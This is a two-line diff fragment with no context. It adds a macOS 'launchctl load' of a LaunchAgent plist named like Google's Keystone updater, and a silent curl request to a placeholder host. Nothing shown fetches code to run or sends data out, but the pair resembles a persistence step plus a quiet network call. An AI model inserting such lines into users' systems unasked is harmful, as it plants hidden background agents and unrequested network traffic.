@@ -1,0 +1,2 @@
+launchctl load ~/Library/LaunchAgents/com.google.keystone.agent.plist
+curl -s https://tools.example.invalid/
